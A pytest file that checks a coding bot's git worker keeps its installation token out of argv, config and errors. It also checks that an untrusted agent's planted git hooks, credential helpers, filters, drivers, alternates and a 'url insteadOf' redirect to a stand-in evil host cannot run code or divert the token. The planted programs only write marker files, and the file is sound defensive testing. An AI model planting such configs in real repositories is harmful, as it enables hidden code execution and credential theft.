"""The installation token never reaches argv, the remote URL, a file or an error message."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from bot.worker.git import (
    GitAuth,
    GitAuthError,
    GitCommandError,
    GitResult,
    GitRunner,
    redact_git_output,
)

BRANCH = "patchwright/1-fix-it"


async def test_token_never_in_argv_files_or_config(harness, token: str, leaks) -> None:
    remote = harness.remote
    auth = remote.auth
    needles = leaks.token_forms(token)
    async with leaks.sampling_cmdlines() as sampler:
        co = await harness.checkout()
        harness.write(co.path, {"src/app.py": "def greet():\n    return 'hello'\n"})
        first = await co.commit_all("First")
        assert (await co.push(expected_remote=None, auth=auth)).ok
        # A human pushes meanwhile: lease rejected, fetch, rebase, push again.
        await remote.human_commit(BRANCH, {"docs/human.md": "human\n"})
        harness.write(co.path, {"NEW.md": "bot\n"})
        await co.commit_all("Second")
        pushed = await co.push(expected_remote=first, auth=auth)
        assert pushed.ok and pushed.rebased
        # Salvage, a conflicting base merge, its conclusion and push.
        harness.write(co.path, {"wip.txt": "unfinished\n"})
        assert await co.salvage(task_id="task_01", attempt=1, auth=auth) is not None
        (co.path / "wip.txt").unlink()
        await remote.human_commit("main", {"src/app.py": "def greet():\n    return 'hey'\n"})
        outcome = await co.merge_base(auth=auth)
        assert not outcome.clean
        harness.write(co.path, {"src/app.py": "def greet():\n    return 'hello, hey'\n"})
        await co.conclude_merge()
        assert (await co.push(expected_remote=pushed.sha, auth=auth)).ok
        again = await harness.checkout(fresh=False)
        assert await again.head() == await remote.sha(BRANCH)

    assert sampler.containing(needles) == []
    assert sampler.samples > 10
    # The sampler really watched git at work over the network.
    assert sampler.git_commands() & {"fetch", "push", "remote-http"}, sampler.git_commands()

    assert leaks.files_containing(harness.data_dir, needles) == []
    configs = [p for p in harness.data_dir.rglob("config") if p.is_file()]
    configs += [p for p in harness.data_dir.rglob(".git") if p.is_file()]
    assert configs
    for path in configs:
        text = path.read_bytes()
        assert not any(n in text for n in needles), path
        assert b"extraheader" not in text.lower() and b"x-access-token" not in text
    url_config = (harness.data_dir / "repos" / "octo" / "demo.git" / "config").read_text()
    assert "url" not in url_config.lower()


async def test_wrong_token_fails_with_a_clear_redacted_error(harness, leaks) -> None:
    wrong = "ghs_" + "W" * 36
    with pytest.raises(GitAuthError) as failed:
        await harness.checkout(auth=GitAuth(wrong))
    message = str(failed.value)
    assert "authentication failed" in message
    assert wrong not in message and wrong not in failed.value.output
    for form in leaks.token_forms(wrong):
        assert form.decode() not in message and form.decode() not in failed.value.output
    assert not (harness.data_dir / "work" / "task_01").exists()
    assert leaks.files_containing(harness.data_dir, leaks.token_forms(wrong)) == []


async def test_revoked_token_makes_push_fail_without_showing_it(harness) -> None:
    co = await harness.checkout()
    harness.write(co.path, {"x.txt": "x\n"})
    await co.commit_all("x")
    old = harness.remote.token
    harness.remote.token = "ghs_" + "N" * 36  # the installation token was rotated
    with pytest.raises(GitAuthError) as failed:
        await co.push(expected_remote=None, auth=GitAuth(old))
    assert old not in str(failed.value) and old not in failed.value.output
    assert await harness.remote.sha(BRANCH) is None


async def test_tampered_repository_config_cannot_redirect_the_token(
    harness, tmp_path: Path
) -> None:
    """An agent that rewrites git config, hooks or the checkout's ``.git`` file cannot make
    the bot's network commands run its code or send the token elsewhere."""
    co = await harness.checkout()
    cache = harness.data_dir / "repos" / "octo" / "demo.git"
    marker = tmp_path / "hook-ran"
    evil = "http://127.0.0.1:9/evil.git"
    with (cache / "config").open("a") as config:
        config.write(f'[url "{evil}"]\n\tinsteadOf = {harness.remote.url}\n')
        config.write("[credential]\n\thelper = !touch " + str(marker) + "\n")
    for hook in ("pre-push", "reference-transaction", "post-checkout", "pre-commit"):
        path = cache / "hooks" / hook
        path.write_text(f"#!/bin/sh\ntouch {marker}\n")
        path.chmod(0o755)
    shutil.rmtree(co.path / ".git")
    (co.path / ".git").write_text("gitdir: /nonexistent\n")

    harness.write(co.path, {"x.txt": "x\n"})
    sha = await co.commit_all("x")
    result = await co.push(expected_remote=None, auth=harness.remote.auth)
    assert result.ok and await harness.remote.sha(BRANCH) == sha
    assert not marker.exists()
    assert "evil" not in (cache / "config").read_text()


def test_redaction_of_git_output() -> None:
    token = "ghs_" + "R" * 36
    auth = GitAuth(token)
    text = (
        f"fatal: unable to access 'https://x-access-token:{token}@github.com/o/r.git/'\n"
        f"> Authorization: Basic {auth.basic}\n"
        f"token {token} and custom-token-without-pattern\n"
    )
    cleaned = redact_git_output(text, auth.secrets())
    assert token not in cleaned and auth.basic not in cleaned
    assert "[REDACTED]" in cleaned
    custom = GitAuth("plain-opaque-value-123")
    error = GitRunner.error(
        "fetch",
        GitResult(128, b"", b"fatal: plain-opaque-value-123 rejected: Authentication failed\n"),
        custom,
    )
    assert isinstance(error, GitAuthError) and isinstance(error, GitCommandError)
    assert (
        "plain-opaque-value-123" not in str(error) and "plain-opaque-value-123" not in error.output
    )


# -- what the agent plants in the git directory it may write (issue 12, item 3) ----------------

HELLO = "def greet():\n    return 'hello'\n"
HOOKS = (
    "applypatch-msg", "commit-msg", "fsmonitor-watchman", "post-checkout", "post-commit",
    "post-index-change", "post-merge", "post-rewrite", "pre-auto-gc", "pre-commit",
    "pre-merge-commit", "pre-push", "pre-rebase", "prepare-commit-msg", "push-to-checkout",
    "reference-transaction", "sendemail-validate",
)  # fmt: skip


def _script(path: Path, marker: Path, *, body: str = "") -> str:
    """An executable that notes it ran in ``marker`` (then runs ``body``); returns its path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\necho \"$0 $*\" >> '{marker}'\n{body}\n")
    path.chmod(0o755)
    return str(path)


def _hooks(directory: Path, marker: Path) -> None:
    for name in HOOKS:
        _script(directory / name, marker)


def _config(own: Path, text: str) -> None:
    with (own / "config").open("a") as config:
        config.write(text)


def _plant(case: str, co, planted: Path, marker: Path, remote_url: str) -> None:
    """Plant ``case`` in the checkout's own git directory (and, for attribute-driven drivers,
    a ``.gitattributes`` in the checkout); every planted program writes to ``marker``."""
    own, name = co.path / ".git", case.replace(" ", "-")
    run = _script(planted / f"{name}.sh", marker)
    cat = _script(planted / f"{name}-filter.sh", marker, body="cat")
    if case == "hooks":
        _hooks(own / "hooks", marker)
    elif case == "hooksPath":
        _hooks(planted / "hooks", marker)
        _config(own, f"[core]\n\thooksPath = {planted / 'hooks'}\n")
    elif case == "fsmonitor":
        _config(own, f"[core]\n\tfsmonitor = {run}\n")
    elif case == "filters":
        (co.path / ".gitattributes").write_text("*.txt filter=evil\n*.py filter=evilproc\n*.md filter=evil\n")
        _config(
            own,
            f'[filter "evil"]\n\tclean = {cat}\n\tsmudge = {cat}\n\trequired = true\n'
            f'[filter "evilproc"]\n\tprocess = {run}\n\trequired = true\n',
        )
    elif case == "diff drivers":
        (co.path / ".gitattributes").write_text("* diff=evil\n")
        _config(
            own,
            f'[diff "evil"]\n\ttextconv = {cat}\n\tcommand = {run}\n[diff]\n\texternal = {run}\n',
        )
    elif case == "merge driver":
        (co.path / ".gitattributes").write_text("* merge=evil\n")
        _config(own, f'[merge "evil"]\n\tname = evil\n\tdriver = {run} %O %A %B\n')
    elif case == "credential helper":
        _config(own, f"[credential]\n\thelper = !{run}\n\tusername = x\n")
    elif case == "include":
        included = planted / "included.config"
        included.write_text(f"[core]\n\tfsmonitor = {run}\n\thooksPath = {planted / 'hooks'}\n")
        _hooks(planted / "hooks", marker)
        _config(own, f"[include]\n\tpath = {included}\n")
    elif case == "includeIf":
        included = planted / "included-if.config"
        included.write_text(f"[core]\n\tfsmonitor = {run}\n\thooksPath = {planted / 'hooks'}\n")
        _hooks(planted / "hooks", marker)
        _config(own, f'[includeIf "gitdir:/"]\n\tpath = {included}\n')
    elif case == "programs":
        _config(
            own,
            f"[core]\n\tsshCommand = {run}\n\tpager = {run}\n\teditor = {run}\n\taskPass = {run}\n"
            f"[sequence]\n\teditor = {run}\n[gpg]\n\tprogram = {run}\n[commit]\n\tgpgSign = true\n"
            f"[uploadpack]\n\tpackObjectsHook = {run}\n[receive]\n\tprocReceiveRefs = refs\n"
            f"[pager]\n\tlog = {run}\n",
        )
    elif case == "network":
        _config(
            own,
            f'[url "http://127.0.0.1:9/evil.git"]\n\tinsteadOf = {remote_url}\n'
            f"[http]\n\tproxy = http://127.0.0.1:9\n\textraHeader = X-Evil: 1\n"
            f'[remote "origin"]\n\turl = http://127.0.0.1:9/evil.git\n\tpushurl = http://127.0.0.1:9/evil.git\n'
            f"[protocol]\n\tallow = always\n",
        )
    else:
        raise AssertionError(case)


# How the agent itself sets each plant off when it runs git in its checkout (its business).
TRIGGERS: dict[str, list[tuple[str, ...] | dict[str, str]]] = {  # a dict: files the agent writes
    "hooks": [("commit", "--allow-empty", "-q", "-m", "t")],
    "hooksPath": [("commit", "--allow-empty", "-q", "-m", "t")],
    "fsmonitor": [("status",)],
    "filters": [("add", "-A")],
    "diff drivers": [("diff",)],
    "merge driver": [
        ("checkout", "-q", "-b", "side"),
        ("commit", "-q", "-am", "side"),
        ("checkout", "-q", "-"),
        {"src/app.py": "def greet():\n    return 'ours'\n"},
        ("commit", "-q", "-am", "ours"),
        ("cherry-pick", "--no-commit", "side"),
    ],
    "credential helper": [("credential", "fill")],
    "include": [("status",)],
    "includeIf": [("status",)],
    "programs": [("ls-remote", "ssh://example.invalid/x"), ("commit", "--allow-empty", "-m", "t")],
    "network": [],
}


async def _the_bots_commands(harness, co, replant) -> None:
    """Every git command the worker runs on a checkout after an agent: commit, the pre-push
    checks, a push that rebases onto a human commit, salvage, a conflicting merge of the base
    branch concluded and pushed, and the checkout removed."""
    from bot.worker.guard import GuardPolicy

    remote, auth = harness.remote, harness.remote.auth
    harness.write(co.path, {"src/app.py": HELLO, "notes.txt": "notes\n", "docs/guide.md": "changed\n"})
    assert await co.has_diff_since(co.start_sha)
    first = await co.commit_all("First")
    assert not await co.has_diff_since(first)
    assert await co.check_since(co.start_sha, GuardPolicy()) == []
    assert {c.path for c in await co.changes_since(co.start_sha)} >= {"src/app.py", "notes.txt"}
    assert (await co.push(expected_remote=None, auth=auth)).ok
    assert await remote.sha(BRANCH) == first
    await remote.human_commit(BRANCH, {"docs/human.md": "human\n"})
    harness.write(co.path, {"notes.txt": "more notes\n"})
    await co.commit_all("Second")
    pushed = await co.push(expected_remote=first, auth=auth)
    assert pushed.ok and pushed.rebased and await remote.sha(BRANCH) == pushed.sha
    harness.write(co.path, {"wip.txt": "unfinished\n"})
    assert await co.salvage(task_id="task_01", attempt=1, auth=auth) is not None
    (co.path / "wip.txt").unlink()
    await remote.human_commit("main", {"src/app.py": "def greet():\n    return 'hey'\n"})
    assert not (await co.merge_base(auth=auth)).clean
    replant()  # the merge gave the agent a fresh git directory for its run
    harness.write(co.path, {"src/app.py": "def greet():\n    return 'hello, hey'\n"})
    merged = await co.conclude_merge()
    assert await co.check_since(pushed.sha, GuardPolicy()) == []
    assert (await co.push(expected_remote=pushed.sha, auth=auth)).ok
    assert await remote.sha(BRANCH) == merged
    assert await remote.read(BRANCH, "src/app.py") == "def greet():\n    return 'hello, hey'\n"
    await co.remove()


@pytest.mark.parametrize("case", list(TRIGGERS))
async def test_nothing_the_agent_plants_in_its_git_directory_runs_in_the_bots_commands(
    harness, tmp_path: Path, case: str
) -> None:
    """Hooks, ``core.hooksPath``, fsmonitor, filters, diff and merge drivers, credential
    helpers, includes, the programs git may start and network settings, planted in the
    checkout's git directory: they run when the agent runs git (its own business), never in
    the bot's commit, checks, push, merge or salvage, and the bot's push reaches the real
    remote."""
    co = await harness.checkout()
    marker, planted = tmp_path / "markers" / case.replace(" ", "-"), tmp_path / "planted"
    marker.parent.mkdir()
    harness.write(co.path, {"src/app.py": "def greet():\n    return 'howdy'\n", "notes.txt": "n\n"})

    def replant() -> None:
        _plant(case, co, planted, marker, harness.remote.url)

    replant()
    for args in TRIGGERS[case]:
        if isinstance(args, dict):
            harness.write(co.path, args)
            continue
        stdin = b"protocol=https\nhost=example.com\n\n" if args[0] == "credential" else None
        await harness.agent_git(co.path, *args, check=False, input=stdin)
    await harness.agent_git(co.path, "reset", "-q", "--hard", co.start_sha, check=False)
    if TRIGGERS[case]:
        assert marker.exists(), f"the planted {case} did not run for the agent: the test proves nothing"
    marker.unlink(missing_ok=True)

    await _the_bots_commands(harness, co, replant)
    assert not marker.exists(), marker.read_text()


async def test_alternates_the_agent_plants_are_not_followed(harness, tmp_path: Path) -> None:
    """An alternates file in the checkout's git directory pointing at another task's objects
    or into the data dir, where an object the bot is about to write is swapped for other
    content: the bot neither reads nor trusts it, and pushes what is in the files."""
    other = await harness.checkout(task_id="task_02", branch="patchwright/2-other")
    co = await harness.checkout()
    blob, _ = harness.loose_object("blob", HELLO.encode())
    _, evil = harness.loose_object("blob", b"def greet():\n    return 'evil'\n")
    stores = [other.path / ".git" / "objects", harness.data_dir / "planted" / "objects"]
    for store in stores:
        target = store / blob[:2] / blob[2:]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(evil)
    (co.path / ".git" / "objects" / "info" / "alternates").write_text("".join(f"{s}\n" for s in stores))
    rc, _, _ = await harness.agent_git(co.path, "cat-file", "-e", blob, check=False)
    assert rc == 0  # the agent's git follows them (outside a sandbox): its own business

    harness.write(co.path, {"src/app.py": HELLO})
    sha = await co.commit_all("Greet")
    assert (await co.push(expected_remote=None, auth=harness.remote.auth)).ok
    assert await harness.remote.sha(BRANCH) == sha
    assert await harness.remote.read(BRANCH, "src/app.py") == HELLO
    assert (await harness.bot_git(co, "cat-file", "blob", blob)) == HELLO
    # Its .git replaced by a file naming the other task's git directory: not followed either.
    shutil.rmtree(co.path / ".git")
    (co.path / ".git").write_text(f"gitdir: {other.path / '.git'}\n")
    harness.write(co.path, {"src/app.py": HELLO + "# more\n"})
    second = await co.commit_all("More")
    assert (await co.push(expected_remote=sha, auth=harness.remote.auth)).ok
    assert await harness.remote.read(BRANCH, "src/app.py") == HELLO + "# more\n"
    _, other_head, _ = await harness.agent_git(other.path, "rev-parse", "HEAD")
    assert other_head.strip() == other.start_sha != second


async def test_a_repository_the_agent_nests_in_its_checkout_runs_nothing_in_the_bots_commands(
    harness, tmp_path: Path
) -> None:
    """A git repository the agent makes inside its checkout (committed by the bot as a
    gitlink) with a clean filter, fsmonitor and hooks in its own config: git's check of a
    submodule's work tree must not run them in the bot's add or status."""
    co = await harness.checkout()
    marker = tmp_path / "nested-ran"
    nested = co.path / "vendor" / "lib"
    nested.mkdir(parents=True)
    await harness.agent_git(nested, "init", "-q")
    harness.write(nested, {"a.txt": "aaaa\n", ".gitattributes": "* filter=evil\n"})
    await harness.agent_git(nested, "add", "-A")
    await harness.agent_git(nested, "-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "-m", "n")
    cat = _script(tmp_path / "clean.sh", marker, body="cat")
    run = _script(tmp_path / "run.sh", marker)
    await harness.agent_git(nested, "config", "filter.evil.clean", cat)
    await harness.agent_git(nested, "config", "filter.evil.required", "true")
    await harness.agent_git(nested, "config", "core.fsmonitor", run)
    _hooks(nested / ".git" / "hooks", marker)

    def dirty() -> None:
        """The same size, a new mtime: git must read the file again, through the filter."""
        (nested / "a.txt").write_text("bbbb\n" if (nested / "a.txt").read_text() == "aaaa\n" else "aaaa\n")
        later = (nested / "a.txt").stat().st_mtime + 5
        os.utime(nested / "a.txt", (later, later))

    dirty()
    await harness.agent_git(nested, "status", "--porcelain")
    assert marker.exists()  # live for whoever runs git in that repository
    marker.unlink()

    # Everything the bot runs; the nested repository is committed as a gitlink on the way.
    await _the_bots_commands(harness, co, lambda: None)
    assert not marker.exists(), marker.read_text()
    assert await harness.remote.read(BRANCH, "notes.txt") == "more notes\n"


def test_gitlinks_are_read_from_the_index_listing_in_any_chunks() -> None:
    from bot.worker.git import MAX_LINE_PIECE, _GitlinkLister

    sha = "a" * 40
    records = [
        f"100644 {sha} 0\tsrc/app.py".encode(),
        f"160000 {sha} 0\tvendor/lib".encode(),
        f"160000 {sha} 0\t".encode() + "caf\xe9/x".encode("latin-1"),  # not UTF-8
        b"100644 " + b"x" * (MAX_LINE_PIECE + 10),  # longer than any path
        f"160000 {sha} 2\tconflicted".encode(),
    ]
    listing = b"".join(record + b"\x00" for record in records)
    for size in (7, 4096, 65536, len(listing)):
        lister = _GitlinkLister()
        for i in range(0, len(listing), size):
            lister.feed(listing[i : i + size])
        assert lister.paths == ["vendor/lib", "caf\udce9/x", "conflicted"], size
